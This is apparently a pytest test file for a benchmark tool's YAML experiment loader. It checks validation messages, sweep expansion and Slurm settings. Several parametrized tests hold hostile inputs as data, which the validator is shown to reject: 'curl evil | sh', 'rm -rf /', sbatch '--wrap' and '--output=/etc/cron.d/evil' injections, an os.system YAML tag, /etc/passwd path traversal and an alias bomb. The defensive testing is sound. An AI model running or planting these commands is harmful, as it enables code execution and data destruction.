"""Experiment files: loading, validation messages (file:line: key.path), expansion, the shipped examples."""

from __future__ import annotations

import json
import os
import textwrap
from pathlib import Path

import pytest

from ringbench.config import point_id
from ringbench.sweeps import experiment
from ringbench.sweeps.experiment import ExperimentError

from conftest import ROOT, ringbench

EXAMPLES = sorted((ROOT / "experiments").glob("*.yaml"))


def write(tmp_path: Path, text: str, name: str = "exp.yaml") -> Path:
    path = tmp_path / name
    path.write_text(textwrap.dedent(text).lstrip())
    return path


def error_of(tmp_path: Path, text: str) -> str:
    path = write(tmp_path, text)
    with pytest.raises(ExperimentError) as info:
        experiment.load(path)
    msg = str(info.value)
    assert "\n" not in msg
    return msg.replace(str(path), "FILE")


# ---------------------------------------------------------------------------------------------
# the shipped examples
# ---------------------------------------------------------------------------------------------
def test_examples_exist():
    names = {p.stem for p in EXAMPLES}
    assert {"quick", "strong-scaling", "weak-scaling", "block-overlap", "causal-layouts", "modes"} <= names


@pytest.mark.parametrize("path", EXAMPLES, ids=[p.stem for p in EXAMPLES])
def test_example_loads_and_expands(path):
    exp = experiment.load(path)
    assert exp.points
    assert len({p.id for p in exp.points}) == len(exp.points)
    for p in exp.points:
        assert p.id == point_id(p.config, p.nranks)
        assert p.work() > 0


def test_weak_scaling_keeps_tokens_per_rank():
    exp = experiment.load(ROOT / "experiments" / "weak-scaling.yaml")
    assert {p.config.seq_len // p.nranks for p in exp.points} == {4096}
    assert [p.nranks for p in exp.points] == [1, 2, 4, 8]


def test_strong_scaling_fixes_seq_len():
    exp = experiment.load(ROOT / "experiments" / "strong-scaling.yaml")
    assert {p.config.seq_len for p in exp.points} == {32768}
    assert {p.nranks for p in exp.points} == {1, 2, 4, 8}


def test_plan_every_example_by_cli():
    for path in EXAMPLES:
        res = ringbench("plan", path)
        assert res.returncode == 0, res.stderr
        assert f"experiment {path.stem}" in res.stdout


# ---------------------------------------------------------------------------------------------
# expansion
# ---------------------------------------------------------------------------------------------
def test_matrix_zip_exclude(tmp_path):
    path = write(
        tmp_path,
        """
        name: mix
        base: {heads: 4, head_dim: 16, repeat: 2}
        matrix:
          mode: [overlap, blocking]
        zip:
          - ranks: [1, 2]
            seq_len: [256, 512]
        exclude:
          - {mode: blocking, ranks: 1}
    """,
    )
    exp = experiment.load(path)
    got = [(p.config.mode, p.nranks, p.config.seq_len) for p in exp.points]
    assert got == [("overlap", 1, 256), ("overlap", 2, 512), ("blocking", 2, 512)]
    assert exp.excluded == 1
    assert exp.points[0].config.heads == 4 and exp.points[0].config.repeat == 2


def test_ids_are_stable_across_loads_and_key_order(tmp_path):
    a = write(
        tmp_path,
        """
        name: a
        base: {seq_len: 512, heads: 2}
        matrix: {mode: [overlap, blocking], causal: [false, true]}
        ranks: [2]
    """,
        "a.yaml",
    )
    b = write(
        tmp_path,
        """
        name: b
        base: {heads: 2, seq_len: 512, repeat: 7}
        matrix: {causal: [false, true], mode: [overlap, blocking]}
        ranks: [2]
    """,
        "b.yaml",
    )
    ids_a = {p.id for p in experiment.load(a).points}
    assert ids_a == {p.id for p in experiment.load(a).points}
    assert ids_a == {p.id for p in experiment.load(b).points}  # repeat does not change what is measured


def test_resolved_copy_reloads_to_the_same_points(tmp_path):
    from ringbench.sweeps.sweep import ResultDir, write_snapshot

    exp = experiment.load(ROOT / "experiments" / "quick.yaml")
    lay = ResultDir(tmp_path, exp.name)
    lay.make()
    write_snapshot(exp, lay)
    again = experiment.load(lay.snapshot)
    assert [p.id for p in again.points] == [p.id for p in exp.points]
    assert again.slurm.partition == exp.slurm.partition == "debug"


# ---------------------------------------------------------------------------------------------
# validation: one line naming file, line and key path
# ---------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "text, expected",
    [
        (
            """
        name: x
        matrix:
          seq_len: [256, 512, abc]
     """,
            "FILE:3: matrix.seq_len[2]: expected an integer, got 'abc'",
        ),
        (
            """
        name: x
        base:
          seq_len: 512
          haeds: 4
     """,
            "FILE:4: base.haeds: unknown key (did you mean 'heads'?)",
        ),
        (
            """
        name: x
        matirx: {mode: [overlap]}
     """,
            "FILE:2: matirx: unknown key (did you mean 'matrix'?)",
        ),
        (
            """
        name: x
        matrix:
          mode: [overlap, ring]
     """,
            "FILE:3: matrix.mode[1]: expected one of overlap, blocking, allgather, ulysses, hybrid, pass-q; got 'ring'",
        ),
        (
            """
        name: x
        base: {seq_len: 1002}
        matrix:
          layout: [contiguous, zigzag]
        ranks: [1, 2]
     """,
            "FILE:2: base.seq_len: 1002 is not divisible by 4 (2 x ranks, layout zigzag at 2 ranks)",
        ),
        (
            """
        name: x
        base: {seq_len: 1024, heads: 4}
        matrix:
          kv_heads: [4, 2, 3]
     """,
            "FILE:4: matrix.kv_heads[2]: must divide heads=4; got 3",
        ),
        (
            """
        name: x
        zip:
          - ranks: [1, 2]
            seq_len: [256]
     """,
            "FILE:4: zip[0].seq_len: has 1 values but ranks has 2",
        ),
        (
            """
        name: x
        matrix: {mode: [overlap]}
        exclude:
          - {mode: blocking}
     """,
            "FILE:4: exclude[0]: matches no point",
        ),
        (
            """
        name: x
        matrix: {ranks: [1, 2]}
        ranks: [4]
     """,
            "FILE:3: ranks: ranks are also swept in matrix.ranks; keep one",
        ),
        (
            """
        name: x
        ranks: [2, 0]
     """,
            "FILE:2: ranks[1]: expected a positive integer rank count, got 0",
        ),
        (
            """
        name: x
        matrix: {repeat: [1, 2]}
     """,
            "are the same measurement",
        ),
        (
            """
        name: x
        base: {seq_len: 256}
        base: {seq_len: 512}
     """,
            "FILE:3: base: duplicate key",
        ),
        (
            """
        name: "bad name"
     """,
            "FILE:1: name: expected a name of letters",
        ),
        (
            """
        name: x
        timeout: -1
     """,
            "FILE:2: timeout: expected a finite positive number of seconds, got -1",
        ),
        (
            """
        name: x
        base: [1, 2]
     """,
            "FILE:2: base: expected a mapping of keys to values, got a list",
        ),
        (
            """
        name: x
        base: {seq_len: 512
     """,
            "FILE:3: not valid YAML: expected ',' or '}'",
        ),
    ],
)
def test_errors_name_file_line_and_key(tmp_path, text, expected):
    assert expected in error_of(tmp_path, text)


def test_safe_load_only(tmp_path):
    msg = error_of(
        tmp_path,
        """
        name: x
        base: !!python/object/apply:os.system ["echo hacked"]
    """,
    )
    assert "not valid YAML" in msg


def test_missing_file(tmp_path):
    with pytest.raises(ExperimentError, match="cannot read"):
        experiment.load(tmp_path / "nope.yaml")


def test_cli_error_is_one_line_exit_2(tmp_path):
    path = write(
        tmp_path,
        """
        name: x
        matrix:
          seq_len: [256, 512, abc]
    """,
    )
    res = ringbench("plan", path)
    assert res.returncode == 2
    assert res.stderr.strip() == f"ringbench plan: {path}:3: matrix.seq_len[2]: expected an integer, got 'abc'"
    assert res.stdout == ""


# ---------------------------------------------------------------------------------------------
# slurm section and profiles
# ---------------------------------------------------------------------------------------------
def test_profile_merged_and_overridden(tmp_path):
    prof = tmp_path / "slurm" / "profiles"
    prof.mkdir(parents=True)
    (prof / "site.yaml").write_text("partition: gpu\ngpus_per_node: 4\nsetup: [module load cuda]\ntime: '01:00:00'\n")
    (tmp_path / "experiments").mkdir()
    path = write(
        tmp_path / "experiments",
        """
        name: x
        slurm:
          profile: site
          time: "00:20:00"
    """,
    )
    spec = experiment.load(path).slurm
    assert (spec.partition, spec.gpus_per_node, spec.time, spec.profile) == ("gpu", 4, "00:20:00", "site")
    assert spec.setup == ["module load cuda"]


def test_unknown_profile_lists_available(tmp_path):
    prof = tmp_path / "slurm" / "profiles"
    prof.mkdir(parents=True)
    (prof / "juwels.yaml").write_text("partition: booster\n")
    msg = error_of(
        tmp_path,
        """
        name: x
        slurm: {profile: juwel}
    """,
    )
    assert msg.startswith("FILE:2: slurm.profile: profile 'juwel' not found (did you mean 'juwels'?); available: ")
    assert "juwels" in msg.split("available: ")[1]


def test_error_in_profile_names_the_profile(tmp_path):
    prof = tmp_path / "slurm" / "profiles"
    prof.mkdir(parents=True)
    (prof / "site.yaml").write_text("partition: gpu\ngpus_per_node: many\n")
    path = write(tmp_path, "name: x\nslurm: {profile: site}\n")
    with pytest.raises(ExperimentError) as info:
        experiment.load(path)
    assert str(info.value) == f"{prof / 'site.yaml'}:2: gpus_per_node: expected an integer >= 0, got 'many'"


@pytest.mark.parametrize(
    "slurm, expected",
    [
        ('job_name: "x; rm -rf ~"', "slurm.job_name: expected letters"),
        ('partition: "gpu\\n#SBATCH --uid=0"', "slurm.partition: expected a partition name"),
        ('setup: ["module load cuda; curl evil | sh"]', "slurm.setup[0]: a setup line is one simple command"),
        ('setup: ["echo $(id)"]', "slurm.setup[0]: a setup line is one simple command"),
        ('setup: ["module load a\\nrm -rf /"]', "slurm.setup[0]: 'module load a\\nrm -rf /' contains a newline (U+000A)"),
        ('sbatch: ["--mem=8G\\nrm -rf /"]', "slurm.sbatch[0]: '--mem=8G\\nrm -rf /' contains a newline (U+000A)"),
        ('sbatch: ["--array=0-99"]', "slurm.sbatch[0]: --array may not be given here: ringbench sets it"),
        ('sbatch: ["--time=10"]', "slurm.sbatch[0]: --time may not be given here: use slurm.time"),
        ('env: {"A B": x}', "slurm.env.A B: expected an environment variable name"),
        ("launcher: mpirun", "slurm.launcher: expected one of srun, mpiexec; got 'mpirun'"),
        ('time: "1 day"', "slurm.time: expected a Slurm time limit"),
        ("gpu_per_node: 4", "slurm.gpu_per_node: unknown key (did you mean 'gpus_per_node'?)"),
    ],
)
def test_slurm_values_reaching_a_shell_are_validated(tmp_path, slurm, expected):
    msg = error_of(tmp_path, f"name: x\nslurm:\n  {slurm}\n")
    assert f"FILE:3: {expected}" in msg


def test_template_path_is_relative_to_the_file_naming_it(tmp_path):
    (tmp_path / "site.sbatch.sh").write_text("#!/bin/bash\n$sbatch\n$setup\nexec $command\n")
    path = write(tmp_path, "name: x\nslurm: {template: site.sbatch.sh}\n")
    assert experiment.load(path).slurm.template == str(tmp_path / "site.sbatch.sh")
    msg = error_of(tmp_path, "name: x\nslurm: {template: nope.sh}\n")
    assert msg.startswith("FILE:2: slurm.template: template 'nope.sh' not found")


def test_template_must_be_a_readable_regular_file(tmp_path):
    (tmp_path / "tpl").mkdir()
    msg = error_of(tmp_path, "name: x\nslurm: {template: tpl}\n")
    assert msg == f"FILE:2: slurm.template: template 'tpl' is not a regular file ({tmp_path / 'tpl'})"


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads every file")
def test_template_the_user_cannot_read_is_refused(tmp_path):
    tpl = tmp_path / "site.sbatch.sh"
    tpl.write_text("#!/bin/bash\n$sbatch\nexec $command\n")
    tpl.chmod(0o200)
    msg = error_of(tmp_path, "name: x\nslurm: {template: site.sbatch.sh}\n")
    assert msg.startswith("FILE:2: slurm.template: template 'site.sbatch.sh' is not readable by this user")


@pytest.mark.parametrize(
    "line, expected",
    [
        ("--wrap=echo hi", "--wrap may not be given: it replaces the job script with a command"),
        ("--input=/etc/passwd", "--input may not be given: it redirects the job script's standard input"),
        ("--test-only", "--test-only may not be given: it submits nothing"),
        ("--wra=echo hi", "--wra abbreviates --wrap, which may not be given here; spell options out in full"),
        ("--out=/tmp/x", "--out abbreviates --output, which may not be given here"),
    ],
)
def test_sbatch_options_that_replace_or_redirect_the_script_are_refused(tmp_path, line, expected):
    msg = error_of(tmp_path, f'name: x\nslurm:\n  sbatch: ["--mem=1G", "{line}"]\n')
    assert msg.startswith(f"FILE:3: slurm.sbatch[1]: {expected}")


@pytest.mark.parametrize(
    "entry, expected",
    [
        ("--mem=1G --output=/etc/cron.d/evil", "--output may not be given here: ringbench sets it"),
        ("--mem=1G --chdir=/etc", "--chdir may not be given here: ringbench sets it"),
        ("--exclusive --array=0-9999", "--array may not be given here: ringbench sets it"),
        ("--mem=1G --wrap=id", "--wrap may not be given: it replaces the job script with a command"),
        ("--mem=1G\\ --wrap=id", "--wrap may not be given"),  # an escaped blank still separates words
        ("'--mem=1G' \"--wrap=id\"", "--wrap may not be given"),
        ('--comment="x" --out=/tmp/x', "--out abbreviates --output"),
        ("--mem=1G -o /etc/cron.d/evil", "'-o' is not a long option --name or --name=value (no short options"),
        ("--mem=1G -D/etc", "'-D/etc' is not a long option"),
        ("--mem=1G hetjob --output=/x", "'hetjob' starts another component of a heterogeneous job"),
        ("--mem=1G evil", "'evil' is not an option"),
        ('--comment="open', "sbatch cannot read"),
        ("# --mem=1G", "expected a long sbatch option such as '--mem=8G' or '--exclusive', got '# --mem=1G' (sbatch reads no option"),
    ],
)
def test_every_option_sbatch_reads_from_an_entry_is_checked(tmp_path, entry, expected):
    msg = error_of(tmp_path, f"name: x\nslurm:\n  sbatch:\n    - {json.dumps(entry)}\n")
    assert msg.startswith(f"FILE:4: slurm.sbatch[0]: {expected}"), msg


def test_entry_read_as_several_options_says_so(tmp_path):
    msg = error_of(tmp_path, 'name: x\nslurm: {sbatch: ["--mem=1G --output=/etc/cron.d/evil"]}\n')
    assert msg == (
        "FILE:2: slurm.sbatch[0]: --output may not be given here: ringbench sets it "
        "(sbatch reads '--mem=1G --output=/etc/cron.d/evil' as the words '--mem=1G', '--output=/etc/cron.d/evil')"
    )


def test_sbatch_entries_are_stored_as_the_words_sbatch_reads(tmp_path):
    entries = ["--mem 8G", "--comment='a b #c'", "--mail-user=a@b.c  # a note", '--exclusive --comment=x"y z"']
    path = write(tmp_path, f"name: x\nslurm:\n  sbatch: {json.dumps(entries)}\n")
    assert experiment.load(path).slurm.sbatch == ["--mem 8G", '--comment="a b #c"', "--mail-user=a@b.c", '--exclusive --comment="xy z"']


@pytest.mark.parametrize(
    "slurm, key",
    [
        ('partition: "gpu\\n"', "slurm.partition: expected a partition name"),
        ('time: "5\\n"', "slurm.time: expected a Slurm time limit"),
        ('job_name: "x\\n"', "slurm.job_name: expected letters"),
        ('env: {"A\\n": x}', "slurm.env.'A\\n': expected an environment variable name (letters, digits, _), got 'A\\n'"),
        ('env: {A: "x\\0y"}', "slurm.env.A: 'x\\x00y' contains a NUL (U+0000)"),
        ('env: {A: "x\\x85y"}', "slurm.env.A: 'x\\x85y' contains a control character (U+0085)"),
        ('python: "/venv\\u2028/bin/python"', "slurm.python: '/venv\\u2028/bin/python' contains a control character (U+2028)"),
        ('mpiexec: "/bin/mpiexec\\r"', "slurm.mpiexec: '/bin/mpiexec\\r' contains a carriage return (U+000D)"),
        ('setup: ["module\\tload x"]', "slurm.setup[0]: 'module\\tload x' contains a tab (U+0009)"),
        ('sbatch: ["--comment=a\\x1bb"]', "slurm.sbatch[0]: '--comment=a\\x1bb' contains a control character (U+001B)"),
    ],
)
def test_control_characters_in_slurm_values_are_refused(tmp_path, slurm, key):
    msg = error_of(tmp_path, f"name: x\nslurm:\n  {slurm}\n")
    assert msg.startswith(f"FILE:3: {key}"), msg


def test_experiment_name_with_a_trailing_newline_is_refused(tmp_path):
    msg = error_of(tmp_path, 'name: "quick\\n"\n')
    assert msg == "FILE:1: name: expected a name of letters, digits, _ . - (at most 64), got 'quick\\n'"


def test_sbatch_options_that_are_full_names_pass(tmp_path):
    path = write(tmp_path, 'name: x\nslurm:\n  sbatch: ["--gpus=2", "--mem=1G", "--exclusive", "--nodelist=a"]\n')
    assert experiment.load(path).slurm.sbatch == ["--gpus=2", "--mem=1G", "--exclusive", "--nodelist=a"]


# ---------------------------------------------------------------------------------------------
# hostile and oversized input: one line, fast
# ---------------------------------------------------------------------------------------------
@pytest.mark.parametrize("name", ["../../etc/passwd", "/etc/passwd", "../secret", "./secret.yaml", ".hidden", "a b"])
def test_profile_is_a_plain_name_and_no_file_content_is_echoed(tmp_path, name):
    (tmp_path / "secret").write_text("TOPSECRET line one\nTOPSECRET line two\n")
    (tmp_path / "secret.yaml").write_text("TOPSECRET\n")
    msg = error_of(tmp_path, f"name: x\nslurm: {{profile: {name!r}}}\n")
    assert msg.startswith("FILE:2: slurm.profile: expected a profile name (letters, digits, _ . -")
    assert "TOPSECRET" not in msg and "root:" not in msg


def test_profile_name_is_looked_up_in_the_profile_directories_only(tmp_path):
    (tmp_path / "secret.yaml").write_text("TOPSECRET\n")
    msg = error_of(tmp_path, "name: x\nslurm: {profile: secret.yaml}\n")
    assert msg.startswith("FILE:2: slurm.profile: profile 'secret.yaml' not found")
    assert "TOPSECRET" not in msg


def test_profile_file_that_is_not_a_mapping_is_not_echoed(tmp_path):
    prof = tmp_path / "slurm" / "profiles"
    prof.mkdir(parents=True)
    (prof / "site.yaml").write_text("TOPSECRET content of some file\n")
    msg = error_of(tmp_path, "name: x\nslurm: {profile: site}\n")
    assert msg == f"{prof / 'site.yaml'}:1: expected a mapping of keys to values, got a string"


def test_plan_never_builds_step_plans(tmp_path, monkeypatch):
    from ringbench import layout
    from ringbench.sweeps import sweep

    def forbidden(*args):
        raise AssertionError("step_plan called while planning")

    monkeypatch.setattr(layout, "step_plan", forbidden)
    path = write(tmp_path, "name: big\nbase: {seq_len: 3200000, causal: true, layout: zigzag}\nranks: [100000, 16384]\n")
    path.write_text("name: big\nbase: {seq_len: 102400000, causal: true, layout: zigzag}\nranks: [100000, 16384]\n")
    exp = experiment.load(path)
    assert [p.work() for p in exp.points] == [6 * 8 * 64 * 4 * 102400000 * 102400001 // 2] * 2
    assert "2 points" in sweep.plan_text(exp, sweep.ResultDir(tmp_path / "results", exp.name))


def test_too_many_points_are_refused_before_any_is_built(tmp_path, monkeypatch):
    from ringbench.config import RunConfig

    def forbidden(*args, **kw):
        raise AssertionError("a point was built")

    monkeypatch.setattr(RunConfig, "from_dict", forbidden)
    seeds = ", ".join(map(str, range(1000)))
    batches = ", ".join(map(str, range(1, 1001)))
    msg = error_of(tmp_path, f"name: x\nmatrix:\n  seed: [{seeds}]\n  batch: [{batches}]\nranks: [1, 2]\n")
    assert msg == (
        "FILE:3: matrix.seed: the experiment expands to 2000000 points (matrix.seed 1000 x matrix.batch 1000 x ranks 2), "
        f"before exclude rules; at most {experiment.MAX_POINTS} are allowed: split it into several experiment files"
    )


def test_repeated_value_in_a_long_axis(tmp_path):
    seeds = ", ".join(map(str, [*range(20000), 7]))
    msg = error_of(tmp_path, f"name: x\nmatrix:\n  seed: [{seeds}]\n")
    assert msg == "FILE:3: matrix.seed[20000]: 7 is listed twice"


ALIAS_BOMB = """
name: x
a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]
b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]
c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]
d: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]
e: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d]
f: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e]
g: &g [*f, *f, *f, *f, *f, *f, *f, *f, *f]
h: &h [*g, *g, *g, *g, *g, *g, *g, *g, *g]
i: &i [*h, *h, *h, *h, *h, *h, *h, *h, *h]
"""


def test_alias_bomb_is_refused_while_loading(tmp_path):
    msg = error_of(tmp_path, ALIAS_BOMB)
    limit = experiment.MAX_YAML_NODES
    assert msg == f"FILE:7: more than {limit} values once aliases are expanded; an experiment file may hold at most {limit}"


def test_aliases_within_the_limit_still_work(tmp_path):
    path = write(tmp_path, "name: x\nbase: &b {heads: 2, head_dim: 16}\nmatrix:\n  seed: &s [1, 2]\n  batch: *s\n")
    assert len(experiment.load(path).points) == 4


def test_deep_nesting_is_refused(tmp_path):
    msg = error_of(tmp_path, "name: x\ndescription: " + "[" * 5000 + "]" * 5000 + "\n")
    assert msg == "FILE:2: nested deeper than 32 levels"
    msg = error_of(tmp_path, "name: x\n" + "".join("  " * i + f"k{i}:\n" for i in range(40)) + "  " * 40 + "v: 1\n")
    assert msg == "FILE:34: nested deeper than 32 levels"


def test_file_that_is_not_utf8(tmp_path):
    path = tmp_path / "exp.yaml"
    path.write_bytes(b"name: x\ndescription: caf\xe9\n")
    with pytest.raises(ExperimentError) as info:
        experiment.load(path)
    assert str(info.value) == f"{path}:2: not UTF-8 text (byte 0xe9 at offset 24); save the file as UTF-8"


@pytest.mark.parametrize("value", [".nan", ".inf", "-.inf", "0", "true", "'600'"])
def test_timeout_must_be_finite_and_positive(tmp_path, value):
    msg = error_of(tmp_path, f"name: x\ntimeout: {value}\n")
    assert msg.startswith("FILE:2: timeout: expected a finite positive number of seconds, got ")


@pytest.mark.parametrize(
    "content, expected",
    [
        (ALIAS_BOMB.lstrip().encode(), ":7: more than 200000 values once aliases are expanded"),
        (b"name: x\ndescription: " + b"[" * 100000 + b"]" * 100000 + b"\n", ":2: nested deeper than 32 levels"),
        (b"name: x\ndescription: \xff\n", ":2: not UTF-8 text"),
        (b"name: x\ntimeout: .nan\n", ":2: timeout: expected a finite positive number of seconds, got nan"),
        (b"name: x\nslurm: {profile: ../../etc/passwd}\n", ":2: slurm.profile: expected a profile name"),
        (b"name: x\nslurm: {sbatch: ['--wrap=id']}\n", ":2: slurm.sbatch[0]: --wrap may not be given"),
    ],
    ids=["alias-bomb", "deep", "not-utf8", "nan-timeout", "profile-path", "wrap"],
)
def test_hostile_files_get_one_line_and_exit_2_by_cli(tmp_path, content, expected):
    path = tmp_path / "exp.yaml"
    path.write_bytes(content)
    res = ringbench("plan", path, "--results", tmp_path / "results", timeout=60)
    assert res.returncode == 2, res.stderr[-2000:]
    (line,) = res.stderr.strip().splitlines()
    assert line.startswith(f"ringbench plan: {path}{expected}")
    assert res.stdout == ""


def test_plan_accepts_points_whose_old_ids_collided(tmp_path):
    """seed 73 / batch 217 and seed 127 / batch 87 had the same 8-hex id: plan refused them as one measurement."""
    path = write(
        tmp_path,
        """
        name: collide
        base: {seq_len: 4096}
        zip:
          - seed: [73, 127]
            batch: [217, 87]
        ranks: [4]
    """,
    )
    exp = experiment.load(path)
    assert [(p.config.seed, p.config.batch) for p in exp.points] == [(73, 217), (127, 87)]
    assert len({p.id for p in exp.points}) == 2


def test_plan_counts_the_backward_at_2_5x_the_forward(tmp_path):
    """A point's GFLOP (plan's column, the work line) is its timed passes': forward x1, backward x2.5, both x3.5."""
    from ringbench.kernels import backward, kernel
    from ringbench.layout import unmasked_pairs
    from ringbench.sweeps import sweep

    path = write(
        tmp_path, "name: passes\nbase: {seq_len: 4096, heads: 4, head_dim: 64, warmup: 0, repeat: 1}\nmatrix: {pass: [fwd, bwd, fwd+bwd]}\n"
    )
    exp = experiment.load(path)
    fwd = kernel.flops(1, 4, 64, unmasked_pairs("contiguous", 1, 4096, False))
    by_pass = {p.config.pass_: p for p in exp.points}
    assert by_pass["fwd"].flops() == fwd
    assert by_pass["bwd"].flops() == backward.flops(1, 4, 64, unmasked_pairs("contiguous", 1, 4096, False)) == 2.5 * fwd
    assert by_pass["fwd+bwd"].flops() == 3.5 * fwd
    text = sweep.plan_text(exp, sweep.ResultDir(tmp_path / "results", exp.name))
    column = {ln.split()[3]: ln.split()[4] for ln in text.splitlines() if ln.split()[:1] in (["1"], ["2"], ["3"])}
    assert column == {"fwd": f"{fwd / 1e9:.3g}", "bwd": f"{2.5 * fwd / 1e9:.3g}", "fwd+bwd": f"{3.5 * fwd / 1e9:.3g}"}
    assert f"estimated work {7.0 * fwd / 1e9:.3g} GFLOP" in text  # 1 + 2.5 + 3.5
